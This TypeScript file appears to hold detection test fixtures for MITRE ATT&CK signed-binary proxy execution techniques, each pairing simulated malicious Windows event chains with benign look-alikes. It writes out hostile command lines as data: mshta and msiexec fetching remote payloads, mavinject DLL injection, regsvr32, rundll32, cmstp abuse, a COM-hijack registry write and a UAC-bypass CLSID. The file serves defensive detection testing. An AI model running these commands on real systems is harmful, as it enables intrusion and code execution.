import { access, type ChainCase, connect, file, INSIDE, load, OUTSIDE, PUBLIC, S32, start, write } from "./story.ts";

const NET = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\";
const CLASS = "{0A1B2C3D-1111-4222-8333-444455556666}";

/** Cases of ATT&CK's strategies on single binaries. */
export const STRATEGIES: readonly ChainCase[] = [
  {
    chain: "DET0138/AN0388",
    fires: [
      file(0, "W", "powershell.exe", `${PUBLIC}tool.dll`),
      start(5, "I", `${NET}InstallUtil.exe`, `InstallUtil.exe /logfile= /U ${PUBLIC}tool.dll`, "W", "powershell.exe"),
      start(7, "C", "cmd.exe", "cmd.exe", "I"),
    ],
    silent: [
      start(5, "I", `${NET}InstallUtil.exe`, 'InstallUtil.exe "C:\\Program Files\\V\\svc.exe"', "M", "msiexec.exe"),
      start(7, "C", "cmd.exe", "cmd.exe", "I"),
    ],
  },
  {
    chain: "DET0361/AN1028",
    fires: [
      start(0, "R", `${NET}RegAsm.exe`, `regasm.exe /u ${PUBLIC}a.dll`, "P", "winword.exe"),
      load(1, "R", `${NET}RegAsm.exe`, `${PUBLIC}a.dll`),
      write(2, "R", `${NET}RegAsm.exe`, `HKLM\\Software\\Classes\\CLSID\\${CLASS}`, "x"),
    ],
    silent: [
      start(0, "R", `${NET}RegAsm.exe`, 'regasm.exe /codebase "C:\\Program Files\\V\\a.dll"', "P", "msiexec.exe"),
      load(1, "R", `${NET}RegAsm.exe`, "C:\\Program Files\\V\\a.dll", true),
    ],
  },
  {
    chain: "DET0282/AN0785",
    fires: [
      start(0, "R", "regsvr32.exe", `regsvr32 /s ${PUBLIC}a.dll`, "P", "cmd.exe"),
      load(1, "R", "regsvr32.exe", `${PUBLIC}a.dll`),
    ],
    silent: [
      start(0, "R", "regsvr32.exe", 'regsvr32 /s "C:\\Program Files\\V\\a.ocx"', "P", "msiexec.exe"),
      load(1, "R", "regsvr32.exe", "C:\\Program Files\\V\\a.ocx", true),
    ],
  },
  {
    chain: "DET0342/AN0968",
    fires: [
      start(0, "H", "C:\\Windows\\hh.exe", `hh.exe ${PUBLIC}guide.chm`, "X", "explorer.exe"),
      start(2, "C", "powershell.exe", "powershell.exe -c 1", "H"),
    ],
    silent: [
      start(0, "H", "C:\\Windows\\hh.exe", `hh.exe ${PUBLIC}guide.chm`, "X", "explorer.exe"),
      start(2, "C", "notepad.exe", "notepad.exe", "H"),
    ],
  },
  {
    chain: "DET0042/AN0118",
    fires: [
      write(
        0,
        "P",
        "powershell.exe",
        `HKCU\\Software\\Classes\\CLSID\\${CLASS}\\InprocServer32\\(Default)`,
        "C:\\x.dll",
      ),
      start(5, "V", "verclsid.exe", `verclsid.exe /S /C ${CLASS}`, "P", "powershell.exe"),
      load(6, "V", "verclsid.exe", `${S32}scrobj.dll`, true),
    ],
    silent: [
      start(5, "V", "verclsid.exe", `verclsid.exe /S /C ${CLASS} /I ${CLASS} /X 0x401`, "X", "explorer.exe"),
      load(6, "V", "verclsid.exe", `${S32}scrobj.dll`, true),
    ],
  },
  {
    chain: "DET0433/AN1207",
    fires: [
      start(0, "M", "mavinject.exe", `mavinject.exe 78 /INJECTRUNNING ${PUBLIC}x.dll`, "P", "cmd.exe"),
      access(1, "M", "mavinject.exe", "N", "notepad.exe"),
      load(2, "N", "notepad.exe", `${PUBLIC}x.dll`),
      connect(3, "N", "notepad.exe", OUTSIDE),
    ],
    silent: [
      start(
        0,
        "M",
        "mavinject.exe",
        "mavinject.exe 78 /INJECTRUNNING C:\\Program Files\\V\\x.dll",
        "P",
        "appvclient.exe",
      ),
      load(2, "N", "notepad.exe", "C:\\Program Files\\V\\x.dll", true),
    ],
  },
  {
    chain: "DET0222/AN0622",
    fires: [
      start(0, "M", "mmc.exe", `mmc.exe ${PUBLIC}panel.msc`, "X", "explorer.exe"),
      start(4, "C", "cmd.exe", "cmd.exe /c whoami", "M"),
    ],
    silent: [
      start(0, "M", "mmc.exe", `mmc.exe ${S32}services.msc`, "X", "explorer.exe"),
      start(4, "C", "cmd.exe", "cmd.exe", "M"),
    ],
  },
  {
    chain: "DET0475/AN1308",
    fires: [
      start(0, "R", "rundll32.exe", `rundll32 ${PUBLIC}a.dll,Run`, "P", "winword.exe"),
      connect(2, "R", "rundll32.exe", OUTSIDE),
    ],
    silent: [
      start(0, "R", "rundll32.exe", `rundll32 ${PUBLIC}a.dll,Run`, "P", "winword.exe"),
      connect(2, "R", "rundll32.exe", INSIDE),
    ],
  },
  {
    chain: "DET0506/AN1397",
    fires: [
      start(0, "M", "mshta.exe", "mshta.exe https://files.example.net/a.hta", "P", "winword.exe"),
      connect(1, "M", "mshta.exe", OUTSIDE),
      start(3, "C", "powershell.exe", "powershell.exe -c 1", "M"),
    ],
    silent: [
      start(0, "M", "mshta.exe", "mshta.exe https://files.example.net/a.hta", "P", "winword.exe"),
      start(3, "C", "notepad.exe", "notepad.exe", "M"),
    ],
  },
  {
    chain: "DET0486/AN1335",
    fires: [
      start(0, "O", "odbcconf.exe", `odbcconf.exe /A {REGSVR ${PUBLIC}a.dll}`, "P", "cmd.exe"),
      load(1, "O", "odbcconf.exe", `${PUBLIC}a.dll`),
    ],
    silent: [
      start(0, "O", "odbcconf.exe", 'odbcconf.exe /A {REGSVR "C:\\Program Files\\V\\a.dll"}', "P", "msiexec.exe"),
      load(1, "O", "odbcconf.exe", "C:\\Program Files\\V\\a.dll", true),
    ],
  },
  {
    chain: "DET0158/AN0445",
    fires: [
      start(0, "M", "msiexec.exe", "msiexec /q /i https://files.example.net/a.msi", "P", "cmd.exe"),
      connect(2, "M", "msiexec.exe", OUTSIDE),
    ],
    silent: [
      start(0, "M", "msiexec.exe", 'msiexec /i "C:\\Windows\\Installer\\1a2b3c.msi"', "P", "explorer.exe"),
      connect(2, "M", "msiexec.exe", OUTSIDE),
    ],
  },
  {
    chain: "DET0194/AN0558",
    fires: [
      start(0, "C", "control.exe", `control.exe ${PUBLIC}t.cpl`, "X", "explorer.exe"),
      start(1, "R", "rundll32.exe", `rundll32 shell32.dll,Control_RunDLL ${PUBLIC}t.cpl`, "C"),
      start(3, "W", "wscript.exe", "wscript.exe a.js", "R"),
    ],
    silent: [
      start(0, "C", "control.exe", `control.exe ${S32}timedate.cpl`, "X", "explorer.exe"),
      start(1, "R", "rundll32.exe", `rundll32 shell32.dll,Control_RunDLL ${S32}timedate.cpl`, "C"),
      start(3, "W", "notepad.exe", "notepad.exe", "R"),
    ],
  },
  {
    chain: "DET0194/registered-item",
    fires: [
      file(0, "W", "wscript.exe", `${PUBLIC}panel.cpl`),
      start(3, "C", "control.exe", "control.exe", "X", "explorer.exe"),
      load(4, "C", "control.exe", `${PUBLIC}panel.cpl`),
    ],
    silent: [
      start(0, "C", "control.exe", "control.exe", "X", "explorer.exe"),
      load(1, "C", "control.exe", "C:\\Program Files\\Vendor\\panel.cpl"),
      load(2, "C", "control.exe", `${S32}timedate.cpl`, true),
    ],
  },
  {
    chain: "DET0328/AN0932",
    fires: [
      start(0, "C", "cmstp.exe", `cmstp.exe /s /ns ${PUBLIC}vpn.inf`, "P", "cmd.exe"),
      start(2, "D", "powershell.exe", "powershell.exe -c 1", "C"),
    ],
    silent: [
      start(0, "C", "cmstp.exe", 'cmstp.exe /s "C:\\Program Files\\Vpn\\corp.inf"', "P", "explorer.exe"),
      start(2, "D", "powershell.exe", "powershell.exe -c 1", "C"),
    ],
  },
  {
    chain: "DET0328/elevation",
    fires: [
      start(0, "D", "dllhost.exe", "dllhost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}"),
      start(2, "C", "cmd.exe", "cmd.exe", "D"),
    ],
    silent: [
      start(0, "D", "dllhost.exe", "dllhost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}"),
      start(2, "C", "cmd.exe", "cmd.exe", "D"),
    ],
  },
];
